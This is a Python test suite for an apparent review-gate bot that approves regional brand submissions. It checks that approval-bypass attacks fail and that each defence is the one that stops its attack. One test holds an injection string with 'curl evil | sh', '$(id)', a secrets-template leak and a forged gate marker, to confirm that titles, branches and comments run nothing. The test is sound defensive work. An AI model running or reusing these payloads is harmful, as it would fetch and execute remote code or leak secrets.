"""Every attack loses, meets the codes that it should, and would win without them."""

import json
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from unittest.mock import patch

import pytest

from brandpilot.forge import reviewing
from brandpilot.forge.evidence import Review
from brandpilot.roster import Account, Roster
from review.attacks import ATTACKS, BYPASSES, Attack, received
from review.playing import bitten, failed, gate, harvested, records, remarks, run, without
from standin.honest import assert_honest
from standin.stage import APPLICATION, PEOPLE, Stage, filing, stage

told = pytest.mark.parametrize("attack", ATTACKS, ids=lambda one: one.name)
passed = pytest.mark.parametrize("attack", BYPASSES, ids=lambda one: one.name)


@pytest.fixture
def there(tmp_path: Path) -> Iterator[Stage]:
    with stage(tmp_path) as raised:
        yield raised
        assert_honest(raised.server.traffic)


@told
def test_the_gate_stays_shut_and_opens_only_without_these_rules(
    attack: Attack, there: Stage
) -> None:
    number = attack.plays(there)
    plan = gate(there, number)
    assert (bitten(plan), remarks(plan)) == (set(attack.meets), set(attack.remarked))
    with without(*attack.meets):
        assert gate(there, number, post=False)["state"] == "success"


@passed
def test_a_merge_past_the_rules_is_on_record_and_counts_for_nothing(
    attack: Attack, there: Stage
) -> None:
    attack.plays(there)
    with without(*attack.meets):
        code, out = run(there, "harvest")
        assert code == 0, out
        written = there.checkout() / "submissions/fujian/shili-rattan/2017-recommendation.yaml"
        assert "verdict: fail" not in written.read_text("utf-8")
        written.unlink()
    (record,) = harvested(there).values()
    assert failed(record) == attack.meets
    assert records(there)
    code, out = run(there, "status", "fujian/shili-rattan", "--as-of", "2017-09-01")
    assert "已推荐" not in out


OTHER = "submissions/fujian/shili-teapots/2017-application.yaml"
RANKED = "推荐意见：同意推荐。\n推荐排序：1"


def another_filing() -> bytes:
    """The example's application as if it were another cluster's."""
    text = filing().decode()
    changes = {
        "shili-rattan": "shili-teapots",
        "示例县": "样例县",
        "示例藤编": "样例紫砂",
        "藤编": "紫砂",
        "11350427M00000019Q": "null",
    }
    for old, new in changes.items():
        text = text.replace(old, new)
    return text.encode()


def test_two_first_ranks_merged_at_once_both_count_for_nothing_until_one_is_mended(
    there: Stage,
) -> None:
    there.at("2017-08-20 10:00")
    organizer, reviewer = there["shili-county-office"], there["shili-fujian-1"]
    numbers = [
        organizer.proposes({APPLICATION: filing()}, "one"),
        organizer.proposes({OTHER: another_filing()}, "two"),
    ]
    for number in numbers:
        received(there, number)
        reviewer.approves(number, RANKED)
        assert gate(there, number)["state"] == "success"
    for number in numbers:
        reviewer.merges(number)
    assert [failed(one) for one in harvested(there).values()] == [set(), set()]
    code, told = run(there, "check", "--format", "json")
    assert (code, [one["code"] for one in json.loads(told)]) == (1, ["X201", "X201"])
    for dossier in ("shili-rattan", "shili-teapots"):
        assert "已推荐" not in run(there, "status", f"fujian/{dossier}", "--as-of", "2017-09-01")[1]


HOSTILE = (
    "'; curl evil | sh; echo ${{ secrets.KEY }} $(id) <!-- brandpilot:gate --> @shili-fujian-1 #1"
)


def test_a_title_a_branch_and_a_comment_start_nothing_and_forge_nothing(there: Stage) -> None:
    there.at("2017-08-20 10:00")
    organizer = there["shili-county-office"]
    organizer.pushes({APPLICATION: filing()}, "x$(id)`id`")
    number = organizer.opens(HOSTILE, "x$(id)`id`", body=HOSTILE)
    fake = there["shili-stranger"].must(
        "POST", f"issues/{number}/comments", body="<!-- brandpilot:gate -->\n### 可以合并"
    )
    there["shili-fujian-1"].reviews(number, "COMMENT", HOSTILE)
    assert gate(there, number)["state"] == "pending"
    gate(there, number)
    own = [one for one in there.world.comments.values() if one.user is there.app]
    assert len(own) == 1
    assert there.world.comments[fake["id"]].body.endswith("可以合并")
    assert [word for word in ("curl", "secrets", "$(", "@shili") if word in own[0].body] == []


def everybody(roster: Roster, _authority: str, day: str) -> dict[int, Account]:
    """All reviewers of all offices."""
    return {
        one.id: one
        for office in roster.authorities.values()
        for one in office.reviewers
        if one.serves(day)
    }


def by_login(roster: Roster, authority: str, day: str) -> dict[int, Account]:
    """The reviewers of an office, and whoever bears a name of theirs."""
    own = {one.id: one for one in roster.authorities[authority].reviewers if one.serves(day)}
    stranger = PEOPLE["shili-stranger"]
    return {**own, stranger: replace(next(iter(own.values())), id=stranger)}


def undismissed(reviews: Sequence[Review]) -> dict[int, Review]:
    """Each person's first word, not the last; a dismissal undone."""
    found: dict[int, Review] = {}
    for review in reviews:
        told = replace(review, state="APPROVED") if review.state == "DISMISSED" else review
        found.setdefault(review.by.id or 0, told)
    return found


def nobody(*_: object, **__: object) -> frozenset[int]:
    return frozenset()


DEFENCES: dict[str, tuple[object, str, object]] = {
    "a_reviewer_approves_the_filing_of_his_own_account": (reviewing, "filers", nobody),
    "a_reviewer_files_through_the_app_and_approves": (reviewing, "filers", nobody),
    "a_desk_approves_what_it_filed": (reviewing, "filers", nobody),
    "a_reviewer_of_another_unit_approves": (Roster, "reviewers", everybody),
    "a_maintainer_approves": (Roster, "reviewers", everybody),
    "a_term_is_over": (Account, "serves", lambda *_: True),
    "a_recused_reviewer_approves": (Roster, "recused", nobody),
    "somebody_takes_over_the_name_of_a_reviewer": (Roster, "reviewers", by_login),
    "an_approval_was_dismissed": (reviewing, "latest", undismissed),
}
"""What alone keeps an approval from counting, by attack; every rule stays in its place."""


@pytest.mark.parametrize("name", DEFENCES)
def test_an_approval_would_count_without_this_one_defence(name: str, there: Stage) -> None:
    attack = next(one for one in ATTACKS if one.name == name)
    number = attack.plays(there)
    assert gate(there, number, post=False)["state"] == "pending"
    where, what, instead = DEFENCES[name]
    with patch.object(where, what, instead):
        assert gate(there, number, post=False)["state"] == "success"


def test_every_approval_that_does_not_count_has_its_own_defence() -> None:
    alone = {one.name for one in ATTACKS if one.meets == {"G501"} and one.remarked}
    assert set(DEFENCES) == alone
